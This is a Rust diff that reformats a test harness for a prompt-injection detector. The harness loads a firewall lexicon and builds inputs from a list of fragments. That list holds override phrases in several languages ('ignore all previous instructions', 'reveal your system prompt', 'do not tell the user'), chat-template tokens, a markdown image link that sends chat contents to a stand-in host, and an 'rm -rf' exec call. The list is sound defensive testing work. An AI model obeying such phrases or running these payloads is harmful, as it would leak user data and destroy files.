@@ -19,7 +19,8 @@ struct Judge {
 impl Judge {
     fn new() -> Self {
         // Read when the test runs, so that a change of the file needs no new program.
-        let lexicon = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../policies/firewall/injection.toml"));
+        let lexicon =
+            fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../policies/firewall/injection.toml"));
         let injection = Injection::by(&lexicon.unwrap(), &[], 1).unwrap();
         let engine = Engine::new(Vec::new(), injection.cues());
         Self { injection, engine, hits: Hits::default(), scratch: InjectionScratch::default() }
@@ -154,9 +155,34 @@ thread_local! {
 }
 
 const WORDS: &[&str] = &[
-    "ignore", "all", "previous", "instructions", "忽略", "指令", "<|im_start|>", "system", "забудь", "правила", "\n", " ",
-    "![x](https://a.example/?q={{chat}})", "from now on", "without any restrictions", "reveal", "your system prompt", "\"",
-    "do not tell the user", "é", "🙂", "\u{200b}", "SYSTEM:", "for example", "don't", "الان", "ภาษา", "call exec(`rm -rf`)",
+    "ignore",
+    "all",
+    "previous",
+    "instructions",
+    "忽略",
+    "指令",
+    "<|im_start|>",
+    "system",
+    "забудь",
+    "правила",
+    "\n",
+    " ",
+    "![x](https://a.example/?q={{chat}})",
+    "from now on",
+    "without any restrictions",
+    "reveal",
+    "your system prompt",
+    "\"",
+    "do not tell the user",
+    "é",
+    "🙂",
+    "\u{200b}",
+    "SYSTEM:",
+    "for example",
+    "don't",
+    "الان",
+    "ภาษา",
+    "call exec(`rm -rf`)",
 ];
 
 /// Prints what a corpus scores: `INJECTION_CORPUS=file cargo test measure -- --ignored --nocapture`.
